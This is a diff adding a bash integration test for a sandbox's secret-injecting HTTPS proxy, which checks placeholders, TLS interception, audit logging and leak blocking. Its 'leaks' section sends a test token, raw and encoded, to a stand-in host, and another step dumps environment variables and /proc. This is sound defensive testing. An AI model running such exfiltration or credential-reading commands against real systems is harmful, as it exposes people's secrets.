@@ -1,0 +1,235 @@
+#!/bin/bash
+# test-services.sh: --service, a secret bound to hosts. Real clients inside `clawbox run`
+# (curl, git over https, Python's urllib) reach a service host with the placeholder the
+# sandbox was given, and the test's own HTTPS server (svc-server.py, a CA of the test's)
+# receives the real secret; the proxy terminated their TLS with the installation's CA. The
+# secret is nowhere inside, nor in any log or audit line. Leaks of the secret (raw and encoded,
+# in the URL, a header, a body split across chunks) and of the placeholder to another host
+# are refused and audited; an untrusted upstream gets 502 and nothing; a client that does not
+# trust the CA fails its own handshake and nothing is forwarded. Loopback only: names map to
+# 127.0.0.1 through the proxy's --hosts file, and --allow 127.0.0.1:PORT lets the SSRF guard
+# pass the test's own servers.
+. "$(dirname "$0")/lib.sh"
+
+PIDS=()
+cleanup() {
+	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
+	cleanup_work
+}
+trap cleanup EXIT
+
+SECRET='ghp_S3cretValueFor+Tests/0123456789'
+export SVC_SECRET=$SECRET
+AUDIT=$WORK/audit.jsonl
+HOSTS=$WORK/hosts
+CADIR=$WORK/ca # the installation's interception CA (made on first use)
+T=$WORK/tls    # the test's own CA, for its upstreams
+mkdir -p "$T" "$WORK/repos"
+
+# The test's CA, and a server certificate from it for the service's names; a second,
+# self-signed one for an upstream nobody trusts.
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=test-ca -days 2 \
+	-addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign \
+	-keyout "$T/ca.key" -out "$T/ca.crt" 2>/dev/null
+openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.svc.test \
+	-keyout "$T/srv.key" -out "$T/srv.csr" 2>/dev/null
+printf 'subjectAltName=DNS:api.svc.test,DNS:two.svc.test,DNS:bad.svc.test\nbasicConstraints=CA:FALSE\n' >"$T/ext"
+openssl x509 -req -in "$T/srv.csr" -CA "$T/ca.crt" -CAkey "$T/ca.key" -CAcreateserial -days 2 \
+	-extfile "$T/ext" -out "$T/srv.crt" 2>/dev/null
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=bad.svc.test \
+	-addext subjectAltName=DNS:bad.svc.test -days 2 -keyout "$T/bad.key" -out "$T/bad.crt" 2>/dev/null
+
+# A bare repository for git over https.
+git init -q --bare "$WORK/repos/repo.git"
+git -C "$WORK/repos" init -q src && git -C "$WORK/repos/src" -c user.name=t -c user.email=t@t \
+	commit -q --allow-empty -m "the commit the sandbox clones"
+git -C "$WORK/repos/src" push -q "$WORK/repos/repo.git" HEAD:refs/heads/main 2>/dev/null
+git -C "$WORK/repos/repo.git" symbolic-ref HEAD refs/heads/main
+
+# start_svc VAR LOG CERT KEY: an HTTPS service server; VAR gets its port.
+start_svc() {
+	local f=$WORK/port.$1
+	python3 "$TOP/tests/integration/svc-server.py" 127.0.0.1 "$3" "$4" "$2" "$SECRET" \
+		"$WORK/repos" >"$f" 2>>"$WORK/server-errors" &
+	PIDS+=($!)
+	wait_until 10 test -s "$f"
+	printf -v "$1" '%s' "$(cat "$f")"
+}
+start_svc SP "$WORK/svc.log" "$T/srv.crt" "$T/srv.key"
+start_svc BP "$WORK/bad.log" "$T/bad.crt" "$T/bad.key"
+# Another allowed host, plain HTTP, where leaks would go.
+"$HTTPD" 127.0.0.1 0 other "$WORK/other.log" >"$WORK/port.other" 2>/dev/null &
+PIDS+=($!)
+wait_until 5 test -s "$WORK/port.other"
+OP=$(cat "$WORK/port.other")
+touch "$WORK/svc.log" "$WORK/bad.log" "$WORK/other.log"
+
+cat >"$HOSTS" <<HOSTS
+127.0.0.1 api.svc.test two.svc.test bad.svc.test other.test
+HOSTS
+
+SVC="{\"name\":\"svc\",\"hosts\":[\"api.svc.test:$SP\"],\"secret_env\":\"SVC_SECRET\",\"placeholder_env\":\"SVC_TOKEN\"}"
+BAD="{\"name\":\"bad\",\"hosts\":[\"bad.svc.test:$BP\"],\"secret_env\":\"SVC_SECRET\",\"header\":\"Authorization: Bearer\"}"
+
+# sbx ARGS... -- COMMAND...: a sandbox with the service, the other host and the test CA.
+sbx() {
+	local args=()
+	while [ "$1" != "--" ]; do args+=("$1"); shift; done
+	shift
+	"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" \
+		--fetch-ca-file "$T/ca.crt" --allow "127.0.0.1:$SP" --allow "127.0.0.1:$BP" \
+		--allow "127.0.0.1:$OP" --allow "other.test:$OP" --service "$SVC" "${args[@]}" -- "$@" \
+		>"$WORK/out" 2>"$WORK/err" </dev/null
+	RC=$?
+}
+got_secret() { grep -cF -- "$SECRET" "$1"; }
+last_audit() { tail -n 1 "$AUDIT"; }
+
+# ---- the placeholder, and the secret's absence inside ----
+sbx -- sh -c 'printf "%s\n" "$SVC_TOKEN"; env; cat /proc/self/environ /proc/1/environ 2>/dev/null | tr "\0" "\n";
+	grep -rsF -- "'"${SECRET:0:12}"'" /etc /tmp /home /proc/self/cmdline 2>/dev/null | head -1; echo end'
+PH=$(head -n 1 "$WORK/out")
+check "the sandbox sees a placeholder of the form clawbox-placeholder-svc-<random>" \
+	grep -qE '^clawbox-placeholder-svc-[0-9a-f]{32}$' <<<"$PH"
+check "the secret is nowhere in the sandbox's environment, /proc or files" \
+	test "$(got_secret "$WORK/out")" = 0 -a "$RC" = 0
+check "the CA bundle and its variables are there" grep -q '^SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt$' "$WORK/out"
+check "the CA was made on first use, its key 0600" \
+	test "$(stat -c %a "$CADIR/ca.key")" = 600 -a -s "$CADIR/bundle.crt"
+sbx -- sh -c 'printf "%s\n" "$SVC_TOKEN"'
+check "the placeholder is new in every run" test "$(head -n 1 "$WORK/out")" != "$PH"
+
+# ---- real clients, intercepted ----
+: >"$WORK/svc.log"
+sbx -- sh -c 'curl -sS --max-time 20 -H "Authorization: Bearer $SVC_TOKEN" "https://api.svc.test:'"$SP"'/curl"'
+check "curl: the placeholder reached the service as the secret over intercepted HTTPS" \
+	grep -q '^auth: ok' "$WORK/out"
+check "curl: the server got 'Authorization: Bearer SECRET'" \
+	grep -qxF "header: Authorization: Bearer $SECRET" "$WORK/svc.log"
+check "curl: the audit says intercepted for service svc" \
+	grep -q '"host":"api.svc.test".*"decision":"allow","reason":"intercepted for service svc"' "$AUDIT"
+
+: >"$WORK/svc.log"
+sbx -- python3 -c '
+import os, urllib.request
+r = urllib.request.Request("https://api.svc.test:'"$SP"'/python",
+                           headers={"Authorization": "token " + os.environ["SVC_TOKEN"]})
+print(urllib.request.urlopen(r, timeout=20).read().decode(), end="")'
+check "Python urllib: the placeholder arrived as the secret" grep -q '^auth: ok' "$WORK/out"
+check "Python urllib: through the intercepting proxy (the server saw the secret)" \
+	grep -qxF "header: Authorization: token $SECRET" "$WORK/svc.log"
+
+: >"$WORK/svc.log"
+sbx -- sh -c 'cd /tmp && git clone -q "https://x-access-token:$SVC_TOKEN@api.svc.test:'"$SP"'/git/repo.git" r &&
+	git -C r log --format=%s'
+check "git over https: a clone through the service with the placeholder as password" \
+	grep -q 'the commit the sandbox clones' "$WORK/out"
+check "git: the Basic credentials arrived with the secret inside" \
+	grep -qF "header: Authorization: Basic $(printf 'x-access-token:%s' "$SECRET" | base64 -w0)" "$WORK/svc.log"
+
+: >"$WORK/svc.log"
+sbx -- sh -c 'curl -sS --max-time 20 "https://api.svc.test:'"$SP"'/q?access_token=$SVC_TOKEN"'
+check "without \"query\", the URL's placeholder is not swapped" \
+	grep -q "request: GET /q?access_token=clawbox-placeholder-svc-" "$WORK/svc.log"
+SVCQ="{\"name\":\"svc\",\"hosts\":[\"api.svc.test:$SP\"],\"secret_env\":\"SVC_SECRET\",\"placeholder_env\":\"SVC_TOKEN\",\"query\":\"access_token\"}"
+: >"$WORK/svc.log"
+"$CLAWBOX" run --hosts "$HOSTS" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" --allow "127.0.0.1:$SP" \
+	--service "$SVCQ" -- sh -c 'curl -sS --max-time 20 "https://api.svc.test:'"$SP"'/q?a=$SVC_TOKEN&access_token=$SVC_TOKEN"' \
+	>"$WORK/out" 2>"$WORK/err" </dev/null
+check "with \"query\": \"access_token\", that parameter (only) carries the secret" \
+	grep -qF "request: GET /q?a=clawbox-placeholder-svc-" "$WORK/svc.log"
+check "... and the named parameter got the secret" grep -qF "&access_token=$SECRET" "$WORK/svc.log"
+
+# "header": added when the program sends none.
+: >"$WORK/bad.log"
+BADOK="{\"name\":\"bad\",\"hosts\":[\"bad.svc.test:$BP\"],\"secret_env\":\"SVC_SECRET\",\"header\":\"Authorization: Bearer\"}"
+cp "$T/bad.crt" "$WORK/bad-ca.crt"
+"$CLAWBOX" run --hosts "$HOSTS" --ca-dir "$CADIR" --fetch-ca-file "$WORK/bad-ca.crt" \
+	--allow "127.0.0.1:$BP" --service "$BADOK" -- curl -sS --max-time 20 "https://bad.svc.test:$BP/hdr" \
+	>"$WORK/out" 2>"$WORK/err" </dev/null
+check "\"header\": a request without one gets 'Authorization: Bearer SECRET' added" \
+	grep -qxF "header: Authorization: Bearer $SECRET" "$WORK/bad.log"
+
+# ---- trust failures ----
+: >"$WORK/bad.log"
+"$CLAWBOX" run --hosts "$HOSTS" --audit "$AUDIT" --ca-dir "$CADIR" --fetch-ca-file "$T/ca.crt" \
+	--allow "127.0.0.1:$BP" --service "$BAD" -- \
+	curl -sS --max-time 20 -o /dev/null -w '%{http_code}' "https://bad.svc.test:$BP/x" \
+	>"$WORK/out" 2>"$WORK/err" </dev/null
+check "an upstream whose certificate is not trusted: 502" test "$(cat "$WORK/out")" = 502
+check "... nothing was forwarded to it" test ! -s "$WORK/bad.log"
+check "... audited as not trusted" sh -c "tail -n 1 '$AUDIT' | grep -q 'certificate is not trusted'"
+
+: >"$WORK/svc.log"
+sbx -- sh -c 'curl -sS --max-time 20 --cacert /etc/ssl/certs/ISRG_Root_X1.pem -H "Authorization: Bearer $SVC_TOKEN" "https://api.svc.test:'"$SP"'/untrusting"; echo "rc=$?"'
+check "a client that does not trust the CA fails its own handshake (curl exit 60)" grep -q '^rc=60' "$WORK/out"
+check "... and nothing reached the service" test ! -s "$WORK/svc.log"
+
+# ---- leaks ----
+# The secret is given to the sandbox here on purpose (in curl's arguments, or --env), as if it
+# had got in somehow.
+enc_b64=$(printf '%s' "$SECRET" | base64 -w0)
+enc_b64url=$(printf '%s' "$enc_b64" | tr '+/' '-_' | tr -d '=')
+enc_hex=$(printf '%s' "$SECRET" | od -An -tx1 | tr -d ' \n')
+enc_pct=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$SECRET")
+: >"$WORK/other.log"
+leak() { # DESCRIPTION FORM CURL-ARGS...
+	local desc=$1 form=$2
+	shift 2
+	sbx -- curl -sS --max-time 20 -o /dev/null -w "%{http_code}" "$@"
+	if [ "$(cat "$WORK/out")" = 403 ] && last_audit | grep -q '"reason":"leak attempt: the secret'; then
+		ok "leak refused (403, audited): $desc"
+	else
+		not_ok "leak not refused: $desc (got $(cat "$WORK/out"); $(last_audit | head -c 300))"
+	fi
+}
+for f in raw:"$SECRET" base64:"$enc_b64" base64url:"$enc_b64url" hex:"$enc_hex" pct:"$enc_pct"; do
+	name=${f%%:*} val=${f#*:}
+	leak "$name in the URL" "$val" "http://other.test:$OP/?q=$val"
+done
+leak "raw in a header" "$SECRET" -H "X-Data: $SECRET" "http://other.test:$OP/h"
+leak "base64 inside a longer base64 header" "$SECRET" \
+	-H "Authorization: Basic $(printf 'ab:%s' "$SECRET" | base64 -w0)" "http://other.test:$OP/b"
+leak "hex in a body" "$enc_hex" --data-binary "prefix-$enc_hex-suffix" "http://other.test:$OP/body"
+check "no leaked request reached the other host" test "$(got_secret "$WORK/other.log")" = 0
+
+# A body split across chunks: 200 KiB of filler, then the secret, sent chunked in pieces so
+# that the secret straddles a read boundary.
+sbx --env "LEAKED=$SECRET" -- python3 -c '
+import http.client, os
+c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
+s = os.environ["LEAKED"].encode()
+def body():
+    yield b"x" * 200000 + s[:5]
+    yield s[5:] + b"tail"
+c.request("POST", "http://other.test:'"$OP"'/chunks", body=body(), encode_chunked=True,
+          headers={"Transfer-Encoding": "chunked"})
+print(c.getresponse().status)'
+check "a secret split across two body chunks: refused (403)" test "$(cat "$WORK/out")" = 403
+check "... audited as a leak in the body, by service name" \
+	sh -c "tail -n 1 '$AUDIT' | grep -q 'leak attempt: the secret (raw) of service svc in the body'"
+
+sbx -- sh -c 'curl -sS --max-time 20 -o /dev/null -w "%{http_code}" -H "X-Token: $SVC_TOKEN" "http://other.test:'"$OP"'/ph"'
+check "the placeholder sent to another host: 403" test "$(cat "$WORK/out")" = 403
+check "... audited as a leak attempt of service svc's placeholder" \
+	sh -c "tail -n 1 '$AUDIT' | grep -q 'leak attempt: the placeholder of service svc'"
+sbx -- sh -c 'curl -sS --max-time 20 -o /dev/null -w "%{http_code}" "http://other.test:'"$OP"'/fine"'
+check "an ordinary request to the other host still passes" test "$(cat "$WORK/out")" = 200
+
+# ---- nowhere in logs ----
+check "the secret is in no audit line" test "$(got_secret "$AUDIT")" = 0
+check "... and in none of clawbox's stderr" test "$(got_secret "$WORK/err")" = 0
+
+# ---- bad specs: one clear line, exit 125 ----
+expect_rc 125 "a service spec that is not JSON" run --ca-dir "$CADIR" --service '{nope' -- true
+check "... one error line" one_error_line
+expect_rc 125 "a service with an unset secret_env" run --ca-dir "$CADIR" \
+	--service '{"name":"x","hosts":["a.test"],"secret_env":"CLAWBOX_NO_SUCH_VAR"}' -- true
+expect_rc 125 "a service with an unknown member" run --ca-dir "$CADIR" \
+	--service '{"name":"x","hosts":["a.test"],"secret_env":"SVC_SECRET","hostz":1}' -- true
+chmod 644 "$WORK/secretfile" 2>/dev/null || { echo "$SECRET" >"$WORK/secretfile"; chmod 644 "$WORK/secretfile"; }
+expect_rc 125 "a secret_file others may read" run --ca-dir "$CADIR" \
+	--service "{\"name\":\"x\",\"hosts\":[\"a.test\"],\"secret_file\":\"$WORK/secretfile\"}" -- true
+
+check_clean "nothing of the sandboxes is left"
+done_testing
